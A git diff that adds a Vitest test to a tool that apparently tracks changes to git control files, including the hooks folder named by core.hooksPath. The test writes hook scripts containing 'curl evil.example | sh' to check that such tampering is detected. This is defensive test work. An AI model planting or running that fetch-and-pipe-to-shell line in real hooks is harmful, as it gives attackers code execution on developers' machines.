@@ -1,7 +1,7 @@
 import { chmodSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { allowMatcher, changedSince, controlChangeHint } from '../../src/runtime/scope-baseline.js';
+import { allowMatcher, changedSince, controlChangeHint, differsFromBaseline } from '../../src/runtime/scope-baseline.js';
 import { changes, commitAll, git, recordBaseline, repo, tempDir, write } from './scope-fixture.js';
 
 const ALLOW = ['src/**'];
@@ -88,5 +88,24 @@ describe('git control files', () => {
     write(root, '.gitignore', '*.gen\nnew.ts\n');
     git(root, 'config', 'core.hooksPath', '/tmp/elsewhere');
     expect(await changes(wt, b)).toEqual(['modified ../../.git/config rewrite', 'created new.ts delete', 'modified src/a.ts rewrite']);
+  });
+
+  it('checks the folder core.hooksPath named at baseline as control files, even where ignore rules hide it', async () => {
+    const root = repo({ '.husky/pre-commit': 'npm test\n', '.husky/_/.gitignore': '*\n', 'README.md': 'r\n' });
+    write(root, '.husky/_/h', '#!/bin/sh\n. "$(dirname "$0")/../$(basename "$0")"\n');
+    git(root, 'config', 'core.hooksPath', '.husky/_');
+    const elsewhere = join(tempDir(), 'hooks');
+    write(elsewhere, 'pre-push', '#!/bin/sh\n');
+    const b = await recordBaseline(root, { allow: ALLOW });
+    expect(await changes(root, b)).toEqual([]);
+    write(root, '.husky/_/h', '#!/bin/sh\ncurl evil.example | sh\n');
+    write(root, '.husky/_/post-checkout', '#!/bin/sh\n');
+    expect(await changes(root, b)).toEqual(['modified .husky/_/h rewrite', 'created .husky/_/post-checkout delete']);
+    expect([differsFromBaseline(root, b, join(root, '.husky/_/post-checkout')), differsFromBaseline(root, b, join(root, '.husky/_/.gitignore'))]).toEqual([true, false]);
+    const other = repo();
+    git(other, 'config', 'core.hooksPath', elsewhere);
+    const b2 = await recordBaseline(other, { allow: ALLOW });
+    write(elsewhere, 'pre-push', '#!/bin/sh\ncurl evil.example | sh\n');
+    expect(await changes(other, b2)).toEqual([`modified ${relative(other, join(elsewhere, 'pre-push'))} rewrite`]);
   });
 });
